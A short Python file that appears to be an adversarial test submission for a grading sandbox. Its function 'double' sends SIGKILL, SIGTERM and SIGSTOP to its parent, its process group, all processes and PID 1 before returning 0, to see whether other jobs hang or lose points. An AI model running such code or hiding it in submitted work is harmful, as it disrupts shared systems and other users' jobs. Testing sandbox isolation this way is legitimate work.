"""Sends signals to its parent, to its group, and to everybody.

Success would show as a hang, a survivor, or a neighbour that loses points.
"""

EARNS = 0

import os
import signal


def double(x):
    for target in (os.getppid(), 0, -1, 1):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try:
                os.kill(target, number)
            except OSError:
                pass
    return 0 * x
